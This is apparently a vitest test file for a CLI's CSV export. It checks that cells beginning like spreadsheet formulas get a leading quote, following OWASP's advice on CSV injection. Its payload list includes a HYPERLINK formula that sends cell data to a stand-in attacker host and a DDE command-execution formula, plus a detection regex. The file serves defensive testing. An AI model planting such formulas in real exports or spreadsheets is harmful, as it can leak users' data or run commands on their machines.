import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeEachBackend } from '../harness/backends.ts';
import { batchCreate, callRefOf, createSpec } from '../harness/feedback.ts';
import { createUser, type CreatedKeyForTest } from '../harness/http.ts';
import { addItems, createCalls, createQueue } from '../harness/queues.ts';
import { startTestServer, type TestServer } from '../harness/server.ts';
import { parseJsonl, runCliJson, type CliTarget } from './cli-process.ts';

// Issue 23 point 6: text that a spreadsheet would run as a formula (CSV injection) is stored
// through the API as op names, creators and annotation values, exported by the CLI as CSV, and
// every such cell starts with `'` (OWASP's advice); JSON Lines keeps the text exact.

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A2,"x")',
  "=cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '-2+3',
  '+1+1',
  '\t=1+1',
  '\r=1+1',
];
/** A cell a spreadsheet reads as a formula (or a formula after a stripped tab or return). */
const DANGEROUS = /^[=+\-@\t\r]/;

describeEachBackend('loupe export: CSV cells are safe to open in a spreadsheet', (backend) => {
  let server: TestServer;
  let member: CreatedKeyForTest;
  let dir: string;
  const project = 'acme/formulas';
  let queueId: string;
  const as = (): CliTarget => ({ url: server.url, apiKey: member.api_key });
  const callIds = FORMULAS.map((_, n) => `f-${n}`);

  beforeAll(async () => {
    server = await startTestServer(backend);
    member = await createUser(server, { entity: 'acme', role: 'member' });
    dir = mkdtempSync(join(tmpdir(), 'loupe-cli-formulas-'));
    await createCalls(server, member.api_key, project, FORMULAS.map((formula, n) => ({ id: callIds[n], op_name: formula, inputs: { q: formula } })));
    const verdict = await createSpec(server, member.api_key, project, 'verdict', { type: 'string' });
    const delta = await createSpec(server, member.api_key, project, 'delta', { type: 'number' });
    queueId = await createQueue(server, member.api_key, project, { scorer_refs: [verdict.ref, delta.ref] });
    await addItems(server, member.api_key, project, queueId, callIds);
    const about = (n: number) => ({ project_id: project, svc_ref: callRefOf(project, callIds[n]!), call_ref: callRefOf(project, callIds[n]!), queue_id: queueId });
    const reply = await batchCreate(server, member.api_key, FORMULAS.flatMap((formula, n) => [
      { ...about(n), feedback_type: 'svc.annotation.verdict', annotation_ref: verdict.ref, payload: { value: formula }, creator: formula },
      { ...about(n), feedback_type: 'svc.annotation.delta', annotation_ref: delta.ref, payload: { value: -2 - n }, creator: formula },
    ]));
    expect(reply.status, reply.text).toBe(200);
  });
  afterAll(async () => {
    await server?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  /** Every cell of a CSV file, header first, as a spreadsheet would split it. */
  const cellsOf = (path: string) => parseCsv(readFileSync(path, 'utf8'), { relax_column_count: false }) as string[][];

  it('queue export: op names and text values that start a formula get a leading quote; numbers stay numbers', async () => {
    const out = join(dir, 'queue.csv');
    await runCliJson(as(), ['export', 'queue', queueId, '--project', project, '--format', 'csv', '--out', out]);
    const [header, ...rows] = cellsOf(out);
    const at = { op: header!.indexOf('call_op_name'), inputs: header!.indexOf('inputs'), verdict: header!.indexOf(`verdict.${member.username}`), majority: header!.indexOf('verdict.majority'), delta: header!.indexOf(`delta.${member.username}`), mean: header!.indexOf('delta.mean') };
    expect(Object.values(at).every((i) => i >= 0), header!.join(',')).toBe(true);
    expect(rows).toHaveLength(FORMULAS.length);
    rows.forEach((row, n) => {
      const formula = FORMULAS[n]!;
      expect(row[at.op]).toBe(`'${formula}`);
      expect(row[at.verdict]).toBe(`'${formula}`);
      expect(row[at.majority]).toBe(`'${formula}`);
      // A negative number is no formula: written as the number it is.
      expect(row[at.delta]).toBe(String(-2 - n));
      expect(row[at.mean]).toBe(String(-2 - n));
      // JSON cells start with `{`; the formula inside them is text within the object.
      expect(JSON.parse(row[at.inputs]!)).toEqual({ q: formula });
      for (const [i, cell] of row.entries()) if (i !== at.delta && i !== at.mean) expect(cell, `${header![i]} of row ${n}`).not.toMatch(DANGEROUS);
    });
    // The raw file: the first cell of the first formula row, quoted by RFC 4180 because of its quotes.
    expect(readFileSync(out, 'utf8')).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")"`);
  });

  it('feedback export: creators that start a formula get a leading quote', async () => {
    const out = join(dir, 'feedback.csv');
    await runCliJson(as(), ['export', 'feedback', '--project', project, '--type', 'svc.annotation.verdict', '--format', 'csv', '--out', out]);
    const [header, ...rows] = cellsOf(out);
    const creator = header!.indexOf('creator');
    expect(rows.map((row) => row[creator]).sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    for (const row of rows) for (const [i, cell] of row.entries()) expect(cell, header![i]).not.toMatch(DANGEROUS);
  });

  it('JSON Lines exports keep the text exact', async () => {
    const out = join(dir, 'queue.jsonl');
    await runCliJson(as(), ['export', 'queue', queueId, '--project', project, '--out', out]);
    const rows = parseJsonl<{ call_op_name: string; scores: { verdict: { majority: string } } }>(readFileSync(out, 'utf8'));
    expect(rows.map((row) => row.call_op_name)).toEqual(FORMULAS);
    expect(rows.map((row) => row.scores.verdict.majority)).toEqual(FORMULAS);
  });
});
